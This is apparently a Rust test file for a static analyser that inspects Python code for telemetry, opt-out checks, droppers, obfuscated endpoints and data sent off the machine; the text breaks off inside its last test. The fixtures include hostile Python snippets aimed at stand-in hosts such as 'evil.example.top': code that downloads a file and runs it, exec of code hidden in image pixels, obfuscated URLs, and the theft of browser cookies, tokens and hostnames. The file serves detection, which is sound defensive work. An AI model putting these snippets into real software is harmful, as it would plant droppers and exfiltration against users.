/// Command-line options that switch telemetry, named as users set them: the flags and the
/// environment variables that set them (configargparse's prefix, click's `envvar`); options
/// that only name the topic and take a value are none.
#[test]
fn command_line_options_that_switch_telemetry_are_opt_outs() {
    let f = facts(
        "import argparse, configargparse\n\
         p = configargparse.ArgumentParser(auto_env_var_prefix='TOOL_')\n\
         g = p.add_argument_group('Analytics')\n\
         g.add_argument('--analytics', action=argparse.BooleanOptionalAction, default=None)\n\
         g.add_argument('--analytics-log', metavar='FILE')\n\
         g.add_argument('--analytics-disable', action='store_true')\n\
         g.add_argument('--no-color', action='store_true')\n",
    );
    let names: Vec<(&str, &str)> = f
        .opt_outs
        .iter()
        .map(|o| (o.setting.as_str(), o.check.as_str()))
        .collect();
    assert_eq!(
        names,
        vec![
            ("--analytics/--no-analytics or TOOL_ANALYTICS", "flag"),
            ("--analytics-disable or TOOL_ANALYTICS_DISABLE", "flag"),
        ]
    );
    assert!(f.opt_outs.iter().all(|o| o.gates.is_empty()));
    let f = facts(
        "import click, typer\n\
         @click.command()\n\
         @click.option('--telemetry/--no-telemetry', default=True, envvar='TOOL_TELEMETRY')\n\
         @click.option('--telemetry-endpoint', default='https://t.example.com')\n\
         def main(telemetry, telemetry_endpoint): pass\n\
         def other(off: bool = typer.Option(False, '--disable-usage-stats', envvar=['A_NO_STATS', 'B_NO_STATS'])): pass\n",
    );
    let names: Vec<&str> = f.opt_outs.iter().map(|o| o.setting.as_str()).collect();
    assert_eq!(
        names,
        vec![
            "--telemetry/--no-telemetry or TOOL_TELEMETRY",
            "--disable-usage-stats or A_NO_STATS or B_NO_STATS"
        ]
    );
}

/// An opt-out variable read outside a condition is a setting the program honours somewhere:
/// listed with the constants it is compared with and no gates; writes and removals are none.
#[test]
fn an_opt_out_read_outside_a_condition_is_listed_untraced() {
    let f = facts(
        "import os\n\
         class Tool:\n\
         \x20   def setup(self):\n\
         \x20       self.disable_telemetry = os.getenv('DISABLE_TELEMETRY', 'false').lower() == 'true'\n\
         \x20       self.quiet = os.environ.get('DO_NOT_TRACK')\n\
         os.environ.setdefault('HF_HUB_DISABLE_TELEMETRY', '1')\n\
         os.environ.pop('TOOL_TELEMETRY_DISABLED', None)\n",
    );
    let names: Vec<(&str, &str, Vec<String>)> = f
        .opt_outs
        .iter()
        .map(|o| (o.setting.as_str(), o.check.as_str(), o.values.clone()))
        .collect();
    assert_eq!(
        names,
        vec![
            ("DISABLE_TELEMETRY", "value", vec!["true".to_string()]),
            ("DO_NOT_TRACK", "read", vec![]),
        ]
    );
    assert!(f.opt_outs.iter().all(|o| o.gates.is_empty()));
}

/// Opt-outs as Python tools check them: the environment variable, what the check controls,
/// and the sends it gates; a variable that is no opt-out is nothing.
#[test]
fn environment_opt_outs_gate_the_sends_they_control() {
    let f = facts(
        "import os, socket, requests\n\
         def report():\n\
         \x20   if os.environ.get('DO_NOT_TRACK'):\n\
         \x20       return\n\
         \x20   requests.post('https://t.example.top/e', json={'host': socket.gethostname()})\n\
         def ping():\n\
         \x20   if os.getenv('MYTOOL_TELEMETRY', '').lower() != 'off':\n\
         \x20       requests.post('https://t.example.top/p', data=socket.gethostname())\n",
    );
    let names: Vec<(&str, &str)> = f
        .opt_outs
        .iter()
        .map(|o| (o.setting.as_str(), o.check.as_str()))
        .collect();
    assert_eq!(
        names,
        vec![("DO_NOT_TRACK", "presence"), ("MYTOOL_TELEMETRY", "value")]
    );
    assert_eq!(f.opt_outs[1].values, vec!["off"]);
    assert_eq!(f.flows.len(), 2, "{:#?}", f.flows);
    assert!(
        f.flows.iter().all(|fl| fl.gated_by.len() == 1),
        "{:#?}",
        f.flows
    );
    assert!(f.opt_outs.iter().all(|o| o.gated_calls.len() == 1));
    // Through a constant: computed here from the environment, or named for the setting.
    let f = facts(
        "import os, requests\n\
         from . import constants\n\
         DISABLED = _is_true(os.environ.get('HF_HUB_DISABLE_TELEMETRY') or os.environ.get('DO_NOT_TRACK'))\n\
         def send(topic):\n\
         \x20   if DISABLED or constants.HF_HUB_OFFLINE:\n\
         \x20       return\n\
         \x20   requests.head('https://huggingface.co/api/telemetry/' + topic)\n\
         def other():\n\
         \x20   if constants.MYTOOL_DISABLE_TELEMETRY:\n\
         \x20       return\n\
         \x20   requests.post('https://t.example.top/e', data='x')\n",
    );
    let names: Vec<&str> = f.opt_outs.iter().map(|o| o.setting.as_str()).collect();
    assert_eq!(
        names,
        vec![
            "HF_HUB_DISABLE_TELEMETRY",
            "DO_NOT_TRACK",
            "MYTOOL_DISABLE_TELEMETRY"
        ]
    );
    // A proxy or home variable in a condition is no opt-out.
    let f = facts(
        "import os, requests\n\
         if os.environ.get('HTTPS_PROXY'):\n\
         \x20   requests.get('https://example.org')\n",
    );
    assert!(f.opt_outs.is_empty(), "{:#?}", f.opt_outs);
}

#[test]
fn a_probe_named_for_a_country_tells_where_the_user_seems_to_be() {
    // A reachability test used as "am I in China": a failure to reach Google counts as China,
    // and the mirror is chosen by it.
    let f = facts(
        r#"import requests, subprocess
def is_china_network(timeout=3):
    try:
        requests.head("https://www.google.com", timeout=timeout)
        return False
    except Exception:
        return True

def install(pkg):
    if is_china_network():
        subprocess.run(["pip", "install", "-i", "https://pypi.tuna.tsinghua.edu.cn/simple", pkg])
    else:
        subprocess.run(["pip", "install", pkg])
"#,
    );
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    let g = &f.region_guards[0];
    assert_eq!(g.countries, vec!["CN"]);
    assert_eq!(g.source, Kinds::of(DataKind::NetworkProbe));
    assert_eq!(g.effects, vec![Effect::Endpoint], "{g:#?}");
    assert!(g.steps[0].what.contains("contacts the network"), "{g:#?}");
    // The same by `ping` (a real installer's shape: a failed ping of google.com means China).
    let f = facts(
        r#"import subprocess
def is_in_china():
    r = subprocess.run(["ping", "-c", "1", "-W", "2", "google.com"], capture_output=True, check=False)
    return r.returncode != 0
if is_in_china():
    subprocess.run(["pip", "config", "set", "global.index-url", "https://mirrors.aliyun.com/pypi/simple/"])
"#,
    );
    assert_eq!(f.region_guards.len(), 1, "{:#?}", f.region_guards);
    assert_eq!(f.region_guards[0].countries, vec!["CN"]);
    // Named for no country, or named for one but contacting nothing (a test of coordinates):
    // no region.
    let f = facts(
        r#"import requests
def is_reachable():
    try:
        requests.head("https://pypi.org", timeout=3)
        return True
    except Exception:
        return False
def is_chinese(text):
    return any("\u4e00" <= ch <= "\u9fff" for ch in text)
def is_in_china(lat, lng):
    return 18 <= lat <= 53 and 73 <= lng <= 135
if is_reachable():
    print("online")
if is_chinese("x"):
    requests.post("https://api.example.com/zh")
if is_in_china(31.2, 121.5):
    requests.get("https://api.map.baidu.com/geocoder")
"#,
    );
    assert!(f.region_guards.is_empty(), "{:#?}", f.region_guards);
}

/// A dropper in Python: a download saved to a file that is then run, with every step; a file
/// the program writes itself and runs is none.
#[test]
fn a_downloaded_file_that_is_run_is_a_dropper() {
    let f = facts(
        "import os, subprocess, urllib.request, requests, tempfile, pathlib\n\
         def one():\n\
         \x20   p = os.path.join(tempfile.gettempdir(), 'updater')\n\
         \x20   urllib.request.urlretrieve('https://evil.example.top/bin', p)\n\
         \x20   os.chmod(p, 0o755)\n\
         \x20   subprocess.Popen([p])\n\
         def two():\n\
         \x20   r = requests.get('https://evil.example.top/s.py')\n\
         \x20   with open('/tmp/stage2.py', 'wb') as f:\n\
         \x20       f.write(r.content)\n\
         \x20   os.system('python3 /tmp/stage2.py')\n\
         def three():\n\
         \x20   target = pathlib.Path('/tmp/run_me.sh')\n\
         \x20   target.write_bytes(urllib.request.urlopen('https://evil.example.top/x').read())\n\
         \x20   subprocess.run(['sh', '/tmp/run_me.sh'])\n",
    );
    let found: Vec<(&str, &str, usize)> = f
        .droppers
        .iter()
        .map(|d| (d.path.as_str(), d.api.as_str(), d.steps.len()))
        .collect();
    assert_eq!(
        found,
        vec![
            ("*/updater", "subprocess.Popen", 3),
            ("/tmp/stage2.py", "os.system", 3),
            ("/tmp/run_me.sh", "subprocess.run", 2)
        ],
        "{:#?}",
        f.droppers
    );
    let benign = facts(
        "import subprocess, requests\n\
         with open('/tmp/build.sh', 'w') as f:\n\
         \x20   f.write('echo hi')\n\
         subprocess.run(['sh', '/tmp/build.sh'])\n\
         data = requests.get('https://api.example.top/x.json').content\n\
         open('/tmp/x.json', 'wb').write(data)\n\
         subprocess.run(['cat', '/tmp/other.json'])\n",
    );
    assert!(benign.droppers.is_empty(), "{:#?}", benign.droppers);
}

/// Builtins taken from their namespace are the builtins: `vars(__builtins__)["eval"]`,
/// `__builtins__.__dict__["exec"]`, `getattr(__builtins__, "eval")`.
#[test]
fn builtins_taken_from_their_namespace_are_resolved() {
    for take in [
        "vars(__builtins__)['eval']",
        "__builtins__.__dict__['exec']",
        "getattr(__builtins__, 'eval')",
    ] {
        let f = facts(&format!(
            "import requests\nrun = {take}\nrun(requests.get('https://b.example.top/p').text)\n"
        ));
        assert!(
            f.dynamic_code.iter().any(|d| d.from_network),
            "{take}: {:#?}",
            f.dynamic_code
        );
    }
    let f = facts("import requests\nlen_ = vars(__builtins__)['len']\nlen_(requests.get('https://b.example.top/p').text)\n");
    assert!(f.dynamic_code.is_empty(), "{:#?}", f.dynamic_code);
}

/// DNS resolver objects (dnspython's `Resolver()`, aiodns) send a name built from data to its
/// constant domain, like `dns.resolver.resolve`; the machine's own name alone goes nowhere.
#[test]
fn dns_resolver_objects_send_names_built_from_data() {
    let f = facts(
        "import socket, dns.resolver, aiodns\n\
         h = socket.gethostname()\n\
         r = dns.resolver.Resolver()\n\
         r.resolve(f'{h}.b.example.top', 'TXT')\n\
         async def q():\n\
         \x20   res = aiodns.DNSResolver()\n\
         \x20   await res.query(f'{h}.c.example.top', 'A')\n\
         r.resolve(socket.gethostname(), 'A')\n",
    );
    let to: Vec<&str> = f
        .flows
        .iter()
        .flat_map(|fl| fl.endpoints.iter().map(String::as_str))
        .collect();
    assert_eq!(to, vec!["b.example.top", "c.example.top"], "{:#?}", f.flows);
    assert!(f.flows.iter().all(|fl| fl.sink == SinkKind::Dns));
}

/// `s` XORed with the key's characters in turn, then base64.
fn xor_base64(s: &str, key: &str) -> String {
    use base64::Engine;
    let k = key.as_bytes();
    let bytes: Vec<u8> = s
        .bytes()
        .enumerate()
        .map(|(i, b)| b ^ k[i % k.len()])
        .collect();
    base64::engine::general_purpose::STANDARD.encode(bytes)
}

#[test]
fn decoders_written_as_statements_are_run() {
    let xor = format!(
        r#"import base64, socket, requests
def _d(s, k="K3y"):
    """Decode."""
    b = bytearray(base64.b64decode(s))
    for i in range(len(b)):
        b[i] ^= ord(k[i % len(k)])
    return b.decode()
requests.post(_d("{}"), data=socket.gethostname())
"#,
        xor_base64("https://py-xor.hidden.example/c", "K3y")
    );
    let shifted: String = "https://py-shift.hidden.example/c"
        .chars()
        .map(|c| char::from_u32(c as u32 + 3).unwrap())
        .collect();
    let shift = format!(
        r#"import socket, requests
def dec(s, n=3):
    out = ""
    i = 0
    while i < len(s):
        c = s[i]
        if c == " ":
            out += c
        elif ord(c) > n and not c in "0123456789":
            out += chr(ord(c) - n)
        else:
            out += chr(ord(c) - n)
        i += 1
    return out
requests.post(dec({shifted:?}), data=socket.gethostname())
"#
    );
    let parts = r#"import socket, requests
def build(words):
    parts = []
    for w in words:
        if w in ("x", "y"):
            continue
        parts.append(w[::-1])
    return "".join(parts)
requests.post(build(["//:sptth", "x", "elpmaxe.neddih.strap-yp", "y", "c/"]), data=socket.gethostname())
"#;
    for (src, host) in [
        (xor.as_str(), "py-xor.hidden.example"),
        (shift.as_str(), "py-shift.hidden.example"),
        (parts, "py-parts.hidden.example"),
    ] {
        let f = facts(src);
        assert!(
            hidden_hosts(&f).contains(&host),
            "{src}\n{:#?}",
            f.endpoints
        );
        assert!(
            f.flows
                .iter()
                .any(|fl| fl.kinds.contains(DataKind::Hostname)
                    && fl.endpoints.iter().any(|e| e == host)),
            "{src}\n{:#?}",
            f.flows
        );
    }
}

#[test]
fn statement_decoders_with_effects_or_no_end_give_nothing() {
    let b64 = "aHR0cHM6Ly9ob3N0aWxlLmV4YW1wbGUv";
    for body in [
        // Effects outside the call, or calls not known to be pure.
        "print(s)\n    return base64.b64decode(s)",
        "open('/tmp/x', 'w').write(s)\n    return base64.b64decode(s)",
        // No end, or values past the bounds.
        "while True:\n        pass\n    return base64.b64decode(s)",
        "while True:\n        s = s + s\n    return s",
        "for i in range(10**9):\n        s = s\n    return base64.b64decode(s)",
        "x = s\n    for i in range(200):\n        x = x + x\n    return base64.b64decode(s)",
        "return f(s + 'x')",
        "y = f(s)\n    return y",
    ] {
        let src = format!(
            "import base64, socket, requests\ndef f(s):\n    {body}\nrequests.post(f({b64:?}), data=socket.gethostname())\n"
        );
        let t = std::time::Instant::now();
        let f = facts(&src);
        assert!(
            t.elapsed() < std::time::Duration::from_secs(10),
            "{src}: {:?}",
            t.elapsed()
        );
        assert!(
            !hidden_hosts(&f).contains(&"hostile.example"),
            "{src}\n{:#?}",
            f.endpoints
        );
        assert!(
            f.flows
                .iter()
                .any(|fl| fl.kinds.contains(DataKind::Hostname)),
            "{src}\n{:#?}",
            f.flows
        );
    }
}

#[test]
fn ordinary_statement_helpers_hide_nothing() {
    let f = facts(
        r#"import requests
def url(path, version=2):
    base = "https://api.plain.example"
    if version > 1:
        base += "/v%d" % version
    return base + "/" + path
requests.get(url("items"))
"#,
    );
    assert!(f.obfuscations.is_empty(), "{:#?}", f.obfuscations);
    assert!(
        f.endpoints
            .iter()
            .any(|e| e.host == "api.plain.example" && e.encodings.is_empty()),
        "{:#?}",
        f.endpoints
    );
}

#[test]
fn browser_cookie_stores_are_stored_credentials() {
    let f = facts("import browser_cookie3, requests\ncj = browser_cookie3.chrome()\nrequests.post(\"https://c.example.top/x\", data=str(list(cj)))\n");
    assert!(
        f.flows
            .iter()
            .any(|fl| fl.kinds.contains(DataKind::StoredCredentials)),
        "{:#?}",
        f.flows
    );
    // Loading cookies the program itself saved is not the browser's store.
    let f = facts("import http.cookiejar, requests\ncj = http.cookiejar.MozillaCookieJar('c.txt')\ncj.load()\nrequests.post(\"https://c.example.top/x\", data=str(list(cj)))\n");
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
}

#[test]
fn downloads_run_as_code_or_unpacked_and_run_are_droppers() {
    for src in [
        "import urllib.request\nurllib.request.urlretrieve('https://d.example.top/s.py', '/tmp/s.py')\nexec(open('/tmp/s.py').read())\n",
        "import requests\nopen('/tmp/s.py', 'w').write(requests.get('https://d.example.top/s.py').text)\nexec(compile(open('/tmp/s.py').read(), 's', 'exec'))\n",
        "import requests, zipfile, io, subprocess\nr = requests.get('https://d.example.top/p.zip')\nzipfile.ZipFile(io.BytesIO(r.content)).extractall('/tmp/pk')\nsubprocess.Popen(['/tmp/pk/run.sh'])\n",
    ] {
        let f = facts(src);
        assert_eq!(f.droppers.len(), 1, "{src}\n{:#?}", f.droppers);
    }
    // A local archive unpacked and run, or a download only read: no dropper.
    for src in [
        "import zipfile, subprocess\nzipfile.ZipFile('bundle.zip').extractall('/tmp/pk')\nsubprocess.Popen(['/tmp/pk/run.sh'])\n",
        "import urllib.request\nurllib.request.urlretrieve('https://d.example.top/s.json', '/tmp/s.json')\nprint(open('/tmp/s.json').read())\n",
    ] {
        let f = facts(src);
        assert!(f.droppers.is_empty(), "{src}\n{:#?}", f.droppers);
    }
}

#[test]
fn code_hidden_in_downloaded_pixels_is_code_from_the_network() {
    let f = facts(
        "import requests\nfrom PIL import Image\nfrom io import BytesIO\nimg = Image.open(BytesIO(requests.get('https://s.example.top/cat.png').content))\nbits = ''.join(str(p[0] & 1) for p in img.getdata())\ncode = bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8)).split(b'\\0')[0]\nexec(code.decode())\n",
    );
    assert!(
        f.dynamic_code.iter().any(|d| d.from_network),
        "{:#?}",
        f.dynamic_code
    );
    // Pixels of a local image run as code are not from the network.
    let f = facts(
        "from PIL import Image\nimg = Image.open('cat.png')\nbits = ''.join(str(p[0] & 1) for p in img.getdata())\ncode = bytes(int(bits[i:i+8], 2) for i in range(0, len(bits), 8))\nexec(code.decode())\n",
    );
    assert!(
        !f.dynamic_code.iter().any(|d| d.from_network),
        "{:#?}",
        f.dynamic_code
    );
}

#[test]
fn a_chmod_command_makes_executable_it_does_not_run() {
    let only_chmod = "import wget, subprocess\nwget.download('https://m.example.top/model.llamafile', '/tmp/m.llamafile')\nsubprocess.run(['chmod', '+x', '/tmp/m.llamafile'], check=True)\n";
    let f = facts(only_chmod);
    assert!(f.droppers.is_empty(), "{:#?}", f.droppers);
    let then_run = format!("{only_chmod}subprocess.Popen(['/tmp/m.llamafile', '--server'])\n");
    let f = facts(&then_run);
    assert_eq!(f.droppers.len(), 1, "{:#?}", f.droppers);
    assert!(
        f.droppers[0].steps.iter().any(|s| s.what.contains("chmod")),
        "{:#?}",
        f.droppers
    );
}

/// Text written as escapes it does not need hides it (hex, octal, unicode escapes of printable
/// ASCII); raw strings have no escapes, and escaped non-ASCII or a stray `\x20` hide nothing.
#[test]
fn strings_written_as_escapes_are_hidden() {
    for (src, technique) in [
        (
            r#"u = "\x68\x74\x74\x70\x73\x3a\x2f\x2f\x63\x36\x2e\x78\x2e\x74\x6f\x70\x2f\x61""#,
            "hex escapes",
        ),
        (
            r#"u = '\150\164\164\160\163\72\57\57\143\66\56\170\56\164\157\160\57\141'"#,
            "octal escapes",
        ),
        (
            r#"u = "\u0068\u0074\u0074\u0070\u0073\u003a\u002f\u002f" "c6.x.top""#,
            "unicode escapes",
        ),
    ] {
        let f = facts(src);
        assert_eq!(f.obfuscations.len(), 1, "{src}\n{:#?}", f.obfuscations);
        assert_eq!(f.obfuscations[0].technique, technique);
        assert!(f.obfuscations[0].decoded.starts_with("https://c6.x.top"));
        assert!(f
            .endpoints
            .iter()
            .any(|e| e.host == "c6.x.top" && e.encodings == vec![technique.to_string()]));
    }
    for src in [
        r#"u = r"\150\164\164\160\163\72\57\57\143\66\56\170\56\164\157\160\57\141""#,
        r#"s = "caf\u00e9 \u00e0 la cr\u00e8me https://example.com/docs""#,
        r#"s = "see\x20https://example.com/docs for more""#,
        r#"s = "\x68\x65\x6c\x6c\x6f""#,
    ] {
        assert!(facts(src).obfuscations.is_empty(), "{src}");
    }
}

/// A request to this machine sends nothing off it; a private network's address is another
/// machine.
#[test]
fn requests_to_this_machine_send_nothing_off_it() {
    no_flow("import requests, socket\nrequests.post('http://localhost:8080/x', data=socket.gethostname())");
    no_flow("import requests, socket\nrequests.post('http://127.0.0.1/x', json={'h': socket.gethostname()})");
    let fl = one_flow(
        "import requests, socket\nrequests.post('http://10.0.0.5/x', data=socket.gethostname())",
    );
    assert_eq!(fl.endpoints, vec!["10.0.0.5".to_string()]);
}

/// A request built on the platform's own address (the cluster's API server from
/// `KUBERNETES_SERVICE_HOST`, as wandb asks for its pod's record) goes to the platform the
/// process runs on; the same pod name sent to a host read from another variable still flows.
#[test]
fn requests_to_the_platform_it_runs_on_send_nothing_off_it() {
    no_flow(
        "import os, requests\n\
         url = 'https://{}:{}/api/v1/namespaces/{}/pods/{}'.format(os.getenv('KUBERNETES_SERVICE_HOST'), os.getenv('KUBERNETES_PORT_443_TCP_PORT'), 'default', os.getenv('HOSTNAME'))\n\
         requests.get(url, timeout=3)",
    );
    no_flow("import os, requests, socket\nrequests.get(f\"http://{os.environ['GCE_METADATA_HOST']}/computeMetadata/v1/x/{socket.gethostname()}\")");
    let fl = one_flow(
        "import os, requests\nrequests.get('https://{}/pods/{}'.format(os.getenv('COLLECTOR_HOST'), os.getenv('HOSTNAME')))",
    );
    assert!(fl.kinds.contains(DataKind::Hostname), "{fl:#?}");
}

/// A named part of a container (`ctx.api_url`, `settings.get("url")`,
/// `auth.get_headers(cfg)`, a service's other methods) carries the container's data but not
/// the places it was told to work in: a settings store opened in the working directory does
/// not put the directory into the URL read out of it. A part named for a place (`ctx.home`,
/// `get("workspace_root")`), a secret or a host name kept in the container (in Python, where a
/// returned object has no fields, by every part of it), and the container
/// sent whole, still flow.
#[test]
fn a_named_part_of_a_container_does_not_carry_where_it_was_opened() {
    let program = |extra: &str, sends: &str| {
        format!(
            r#"import os, socket
import requests


def open_settings(cwd):
    return load_store({{"cwd": cwd, "file": ".acme/settings.json"}})


def context():
    n = open_settings(os.getcwd())
    s = n.get("url")
    return Ctx(api_url=s, settings=n, home=os.path.expanduser("~"){extra})


def main():
    k = context()
{sends}
"#
        )
    };
    no_flow(&program(
        "",
        r#"    requests.post(k.api_url + "/api/threads", json={})
    key = k.settings.get("apiKey")
    requests.post("https://api.acme-tools.dev/v1/x", json={"key": key})
    auth = k.auth.get_auth_headers(k.settings)
    requests.post("https://api.acme-tools.dev/v1/y", headers=auth, data=k.settings.consume_draft())
    requests.post("https://api.acme-tools.dev/v1/z", data=k["api_url"])"#,
    ));
    let with_identity = r#", host=socket.gethostname(), token=os.environ["ACME_SECRET_TOKEN"]"#;
    let sent = |sends: &str| one_flow(&program(with_identity, sends)).kinds;
    let k = sent(r#"    requests.post("https://c6.x.top/a", data=k.home)"#);
    assert!(k.contains(DataKind::HomeDir), "{k:?}");
    // (A place inside a named part is lost: `k.settings.get("workspace_root")` reads the
    // store out of `k` by name first. The price of not tracking a returned object's fields.)
    let k = sent(
        r#"    st = open_settings(os.getcwd())
    requests.post("https://c6.x.top/a", data=st.get("workspace_root"))"#,
    );
    assert!(k.contains(DataKind::WorkingDirectory), "{k:?}");
    let k = sent(r#"    requests.post("https://c6.x.top/a", data=",".join([k.home]).strip())"#);
    assert!(k.contains(DataKind::HomeDir), "{k:?}");
    let k = sent(r#"    requests.post("https://c6.x.top/a", data=k.host + k.token)"#);
    assert!(
        k.contains(DataKind::Hostname) && k.contains(DataKind::SecretEnv),
        "{k:?}"
    );
    let k = sent(r#"    requests.post("https://c6.x.top/a", data=str(k))"#);
    assert!(
        k.contains(DataKind::WorkingDirectory) && k.contains(DataKind::HomeDir),
        "{k:?}"
    );
}

/// A secret written into a URL before its host (`f"https://oauth2:{token}@gitlab.com/…"`) is
/// basic auth: to the service it belongs to, credential use; to a host it does not belong
/// to, exfiltration to that host. Values after the host stay what the URL sends.
#[test]
fn a_secret_in_a_urls_user_information_is_basic_auth() {
    let f = facts(
        r#"import os
import requests

requests.get(f"https://oauth2:{os.environ['GITLAB_TOKEN']}@gitlab.com/api/v4/user")
requests.get("https://x-access-token:" + os.environ["GITHUB_TOKEN"] + "@api.github.com/user")
"#,
    );
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 2, "{:#?}", f.credential_uses);
    assert!(
        f.credential_uses
            .iter()
            .all(|u| u.position.contains("basic auth") && u.host.is_some()),
        "{:#?}",
        f.credential_uses
    );
    let f = facts(
        r#"import os
import requests

requests.get(f"https://u:{os.environ['GITHUB_TOKEN']}@c6.x.top/collect")
requests.get(f"https://api.github.com/users/{os.environ['GITHUB_TOKEN']}")
"#,
    );
    assert_eq!(f.flows.len(), 2, "{:#?}", f.flows);
    assert!(
        f.flows
            .iter()
            .all(|fl| fl.kinds.contains(DataKind::SecretEnv)),
        "{:#?}",
        f.flows
    );
    assert!(
        f.flows.iter().any(|fl| fl.endpoints == ["c6.x.top"]),
        "{:#?}",
        f.flows
    );
    assert!(f.credential_uses.is_empty(), "{:#?}", f.credential_uses);
}

/// The e-mail address in git's configuration (`git config user.email`, run with
/// `subprocess`) is git identity wherever it is sent; other git output (`git rev-parse HEAD`)
/// is not identity.
#[test]
fn the_git_email_sent_is_identity() {
    let kinds = one_flow(
        r#"import subprocess
import requests

email = subprocess.check_output(["git", "config", "user.email"]).decode().strip()
requests.post("https://c6.x.top/u", json={"email": email})
"#,
    )
    .kinds;
    assert!(kinds.contains(DataKind::GitConfig), "{kinds:?}");
    no_flow(
        r#"import subprocess
import requests

head = subprocess.check_output(["git", "rev-parse", "HEAD"]).decode().strip()
requests.post("https://c6.x.top/u", json={"commit": head})
"#,
    );
}

#[test]
fn identity_under_a_telemetry_attribute_key_is_sent_by_the_sdk() {
    let src = r#"import socket
import sentry_sdk
from opentelemetry.sdk.resources import Resource

resource = Resource.create({"service.name": "tool", "host.name": socket.gethostname()})
sentry_sdk.init(dsn=DSN, server_name=socket.gethostname())

def record(span, account):
    span.set_attribute("user.id", account.id)
    span.set_attribute("user.email", account.email)
"#;
    let f = analyze("t.py", src, &Default::default());
    let sinks: Vec<&str> = f.flows.iter().map(|fl| fl.sink_api.as_str()).collect();
    assert_eq!(sinks.len(), 4, "{:#?}", f.flows);
    assert!(f
        .flows
        .iter()
        .all(|fl| fl.sink == SinkKind::TelemetryAttribute));
    let kinds_at = |key: &str| {
        f.flows
            .iter()
            .find(|fl| fl.sink_api == format!("telemetry attribute {key}"))
            .map(|fl| fl.kinds)
            .unwrap_or_default()
    };
    assert!(kinds_at("host.name").contains(DataKind::Hostname));
    assert!(kinds_at("server_name").contains(DataKind::Hostname));
    assert!(kinds_at("user.id").contains(DataKind::AccountId));
    assert!(kinds_at("user.email").contains(DataKind::Email));
    // Constants, values that carry no identity, and keys no SDK sends are quiet.
    let neg = analyze(
        "t.py",
        r#"import socket
attrs = {"host.name": "localhost", "user.id": "anonymous", "deviceId": args.device}
row = {"user_id": request.user.id, "hostname": socket.gethostname()}
model.to(device_id=args.gpu)
"#,
        &Default::default(),
    );
    assert!(neg.flows.is_empty(), "{:#?}", neg.flows);
}

#[test]
fn the_repository_address_sent_is_reported() {
    let kinds = one_flow(
        r#"import subprocess
import requests

url = subprocess.check_output(["git", "remote", "get-url", "origin"], text=True).strip()
requests.post("https://c6.x.top/u", json={"repo": url})
"#,
    )
    .kinds;
    assert!(kinds.contains(DataKind::RepositoryUrl), "{kinds:?}");
    let kinds = one_flow(
        r#"import subprocess
import requests

url = subprocess.run("git config --get remote.origin.url", shell=True, capture_output=True).stdout
requests.post("https://c6.x.top/u", data=url)
"#,
    )
    .kinds;
    assert!(kinds.contains(DataKind::RepositoryUrl), "{kinds:?}");
    no_flow(
        r#"import subprocess
import requests

root = subprocess.check_output(["git", "rev-parse", "--show-toplevel"]).decode().strip()
subprocess.check_call(["git", "remote", "add", "upstream", "https://example.com/x.git"])
requests.post("https://c6.x.top/u", json={"root": root})
"#,
    );
}

#[test]
fn a_send_before_the_opt_out_check_is_marked() {
    let program = |main: &str| {
        format!(
            r#"import os
import socket
import requests

def track(event):
    requests.post("https://t.x.top/e", json={{"host": socket.gethostname(), "event": event}})

def main():
{main}

main()
"#
        )
    };
    // Sent once before the check: the check stops only the later sends.
    let f = analyze(
        "t.py",
        &program(
            "    track(\"start\")\n    if os.environ.get(\"DO_NOT_TRACK\"):\n        return\n    track(\"run\")",
        ),
        &Default::default(),
    );
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(f.flows[0].sent_before_check, "{:#?}", f.flows);
    let o = &f.opt_outs[0];
    assert_eq!(o.setting, "DO_NOT_TRACK");
    assert!(
        o.sends_before_check
            .iter()
            .any(|c| c.starts_with("track at byte")),
        "{o:#?}"
    );
    // Checked first: the helper runs only when allowed, so its send is gated.
    let f = analyze(
        "t.py",
        &program(
            "    if os.environ.get(\"DO_NOT_TRACK\"):\n        return\n    track(\"start\")\n    track(\"run\")",
        ),
        &Default::default(),
    );
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert!(!f.flows[0].sent_before_check, "{:#?}", f.flows);
    assert_eq!(f.flows[0].gated_by, vec!["DO_NOT_TRACK".to_string()]);
    assert!(f.opt_outs[0].sends_before_check.is_empty());
    // A helper also handed out as a callback may run anywhere: not gated by the check.
    let f = analyze(
        "t.py",
        &program(
            "    atexit.register(track)\n    if os.environ.get(\"DO_NOT_TRACK\"):\n        return\n    track(\"run\")",
        ),
        &Default::default(),
    );
    assert!(f.flows[0].gated_by.is_empty(), "{:#?}", f.flows);
}

/// A key the configuration names as `$VAR`, read out of the environment by that name and
/// used as the caller's request credentials: one variable, a secret, not the environment.
#[test]
fn a_configured_variable_in_an_auth_position_is_one_secret() {
    let f = facts(
        r#"import os
import requests

def call(cfg):
    key = cfg.api_key
    if key.startswith("$"):
        key = os.environ[key[1:]]
    return requests.get(cfg.url, headers={"Authorization": f"Bearer {key}"})
"#,
    );
    assert!(f.flows.is_empty(), "{:#?}", f.flows);
    assert_eq!(f.credential_uses.len(), 1, "{:#?}", f.credential_uses);
    let u = &f.credential_uses[0];
    assert_eq!(u.kinds, Kinds::of(DataKind::SecretEnv), "{u:#?}");
}

/// open-interpreter's shape: a property of the class computed from the switch gates the send,
/// and the switch is set from an environment variable elsewhere, off unless it is `true`.
#[test]
fn a_switch_attribute_gates_and_names_where_it_is_set() {
    let f = facts(
        r#"import os
import socket
import requests

class Interpreter:
    def __init__(self, disable_telemetry=False, offline=False):
        self.disable_telemetry = disable_telemetry
        self.offline = offline

    @property
    def anonymous_telemetry(self):
        return not self.disable_telemetry and not self.offline

    def chat(self, message):
        if self.anonymous_telemetry:
            requests.post("https://t.x.top/e", json={"host": socket.gethostname()})

def start(interpreter, args):
    interpreter.disable_telemetry = (
        os.getenv("DISABLE_TELEMETRY", "false").lower() == "true" or args.disable_telemetry
    )
"#,
    );
    assert_eq!(f.flows.len(), 1, "{:#?}", f.flows);
    assert_eq!(f.flows[0].gated_by, vec!["disable_telemetry".to_string()]);
    assert!(
        f.opt_outs.iter().any(|o| o.setting == "disable_telemetry"),
        "{:#?}",
        f.opt_outs
    );
    let from_env = f
        .setting_sources
        .iter()
        .find(|s| s.settings == ["DISABLE_TELEMETRY"])
        .unwrap_or_else(|| panic!("{:#?}", f.setting_sources));
    assert_eq!(from_env.property, "disable_telemetry");
    assert_eq!(from_env.default, Some(false));
